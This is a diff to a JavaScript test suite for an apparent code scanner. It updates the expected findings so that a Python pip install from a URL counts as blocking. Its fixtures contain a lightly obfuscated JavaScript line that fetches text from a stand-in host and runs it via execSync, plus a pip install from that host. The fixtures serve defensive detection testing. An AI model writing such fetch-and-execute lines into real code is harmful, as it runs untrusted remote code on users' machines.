@@ -212,8 +212,10 @@ importlib.import_module("plug")
       'b.js': `const m = ['child', 'process'].join('_');\nconst cp = await import('node:' + m);\nconst s = await (await fetch('https://x.example.net/c')).text();\ncp.execSync(s);\n`,
       'c.py': `import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "https://x.example.net/t.tar.gz"])\n`,
     });
-    expect(blocking(r)).toEqual(['pipe-to-shell a.py:2', 'pipe-to-shell b.js:4']);
-    expect(r.findings.filter((f) => f.rule === 'install-from-url').map((f) => `${f.file}:${f.line}`)).toEqual(['c.py:2']);
+    // A package installed from a host nobody vouches for, by a script as by a shell line (benign15: installers run from Python read as in shell).
+    expect(blocking(r)).toEqual(['install-untrusted c.py:2', 'pipe-to-shell a.py:2', 'pipe-to-shell b.js:4']);
+    // The blocking finding takes the advisory's place, as for the same line in a shell script.
+    expect(r.findings.filter((f) => f.rule === 'install-from-url').map((f) => `${f.file}:${f.line}`)).toEqual([]);
   });
 
   it('leaves a tool server calling its own API with its key alone', () => {
